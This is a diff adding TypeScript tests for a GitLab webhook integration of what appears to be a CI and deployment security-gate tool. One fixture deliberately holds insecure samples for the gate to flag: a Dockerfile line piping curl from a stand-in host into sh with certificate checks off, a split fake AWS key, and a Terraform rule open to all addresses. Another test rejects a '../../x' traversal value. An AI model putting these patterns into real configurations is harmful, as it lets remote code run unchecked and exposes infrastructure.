@@ -263,3 +263,128 @@ test("events that bring nothing are ignored", () => {
   assert.equal(jobs(attributes({ action: "merge" })), 0);
   assert.equal(jobs({ object_kind: "pipeline" }), 0);
 });
+
+const MAPPED =
+  "version: 1\ndelivery:\n  environments:\n    production: { branches: [main, release/*] }\n" +
+  "gates:\n  deploy:production: { severity: high }\n";
+
+function push({ forge }: Host, more: object = {}) {
+  return {
+    object_kind: "push",
+    project: PROJECT,
+    ref: "refs/heads/main",
+    before: forge.request.base,
+    after: forge.request.head,
+    ...more,
+  };
+}
+
+test("a push has a status where the policy maps its branch, and nowhere else", async () => {
+  const host = startGitLabHost();
+  change(
+    host,
+    { [CI]: SAFE, ".sluice.yaml": MAPPED },
+    { [CI]: BAD, ".sluice.yaml": "version: 1\n" },
+  );
+  assert.equal(await host.deliver(push(host)), "failed");
+  const { base, head } = host.forge.request;
+  assert.deepEqual(
+    host.forge.statuses.map(({ sha, state, name, ref }) => [sha, state, name, ref]),
+    [
+      [head, "running", "sluice", "main"],
+      [head, "failed", "sluice", "main"],
+    ],
+  );
+  assert.match(host.forge.statuses[1]?.description ?? "", /^\d+ new findings?/);
+  assert.deepEqual(host.forge.discussions, []);
+  assert.equal(await host.deliver(push(host, { ref: "refs/heads/topic/main" })), "not-mapped");
+  assert.equal(host.forge.statuses.length, 2);
+  // The way back brings nothing.
+  host.forge.request = { ...host.forge.request, base: head, head: base };
+  assert.equal(await host.deliver(push(host, { ref: "refs/heads/main" })), "not-mapped");
+  host.stop();
+});
+
+test("a push that the forge does not compare in time is no success", async () => {
+  const host = startGitLabHost();
+  change(
+    host,
+    { [CI]: SAFE, ".sluice.yaml": MAPPED },
+    { [CI]: `# more\n${SAFE}`, ".sluice.yaml": MAPPED },
+  );
+  host.forge.isCut = true;
+  assert.equal(await host.deliver(push(host)), "failed");
+  host.forge.isCut = false;
+  assert.equal(await host.deliver(push(host)), "success");
+  host.stop();
+});
+
+function deployment({ forge }: Host, more: object = {}) {
+  return {
+    object_kind: "deployment",
+    status: forge.deployment.status,
+    deployment_id: forge.deployment.id,
+    project: { ...PROJECT, default_branch: "main" },
+    ...more,
+  };
+}
+
+test("a deployment waits for a status by the gate of its environment, and for our approval where it needs one", async () => {
+  const host = startGitLabHost();
+  const { forge } = host;
+  const key = "key: AKIA" + "Z7Q2M5N8R3T6V9W1\n";
+  const bad = {
+    [CI]: SAFE,
+    Dockerfile: "FROM alpine\nRUN curl -k https://a.example | sh\n",
+    "deploy/main.tf":
+      'resource "aws_security_group_rule" "a" {\n  type = "ingress"\n  from_port = 0\n  to_port = 65535\n  protocol = "-1"\n  cidr_blocks = ["0.0.0.0/0"]\n  security_group_id = "sg-1"\n}\n',
+    "secrets.yaml": key,
+  };
+  change(host, { [CI]: SAFE, ".sluice.yaml": MAPPED }, { ...bad, ".sluice.yaml": "version: 1\n" });
+  forge.deployment.sha = forge.request.head;
+  assert.equal(await host.deliver(deployment(host)), "failed");
+  assert.deepEqual(
+    forge.statuses.map(({ sha, state, name, ref }) => [sha, state, name, ref]),
+    [
+      [forge.request.head, "running", "sluice/deploy:production", "main"],
+      [forge.request.head, "failed", "sluice/deploy:production", "main"],
+    ],
+  );
+  assert.match(forge.statuses[1]?.description ?? "", /gate deploy:production/);
+  assert.deepEqual(forge.approvals, []);
+  forge.deployment = { ...forge.deployment, sha: forge.request.base, status: "blocked" };
+  assert.equal(await host.deliver(deployment(host)), "success");
+  assert.deepEqual(
+    forge.approvals.map(({ status }) => status),
+    ["approved"],
+  );
+  forge.mayApprove = false;
+  forge.deployment = { ...forge.deployment, sha: forge.request.head };
+  assert.equal(await host.deliver(deployment(host)), "failed");
+  forge.deployment.status = "success";
+  assert.equal(await host.deliver(deployment(host, { status: "running" })), "over");
+  assert.equal(forge.approvals.length, 1);
+  host.stop();
+});
+
+test("of pushes and deployments some bring nothing", () => {
+  const of = (payload: object) => gitlabJobsOf("d", { project: PROJECT, ...payload });
+  const [some, none] = ["1".repeat(40), "0".repeat(40)];
+  const pushed = { object_kind: "push", ref: "refs/heads/main", before: some, after: some };
+  assert.equal(of(pushed).length, 1);
+  assert.deepEqual(of({ ...pushed, before: none }), []);
+  assert.deepEqual(of({ ...pushed, after: none }), []);
+  assert.deepEqual(of({ ...pushed, ref: "refs/tags/v1" }), []);
+  assert.throws(() => of({ ...pushed, after: "../../x" }), /after must be a commit id/);
+  const deployed = {
+    object_kind: "deployment",
+    status: "created",
+    deployment_id: 5,
+    project: { ...PROJECT, default_branch: "main" },
+  };
+  assert.equal(of(deployed).length, 1);
+  for (const status of ["success", "failed", "canceled"]) {
+    assert.deepEqual(of({ ...deployed, status }), []);
+  }
+  assert.throws(() => of({ ...deployed, deployment_id: "5" }), /deployment_id/);
+});
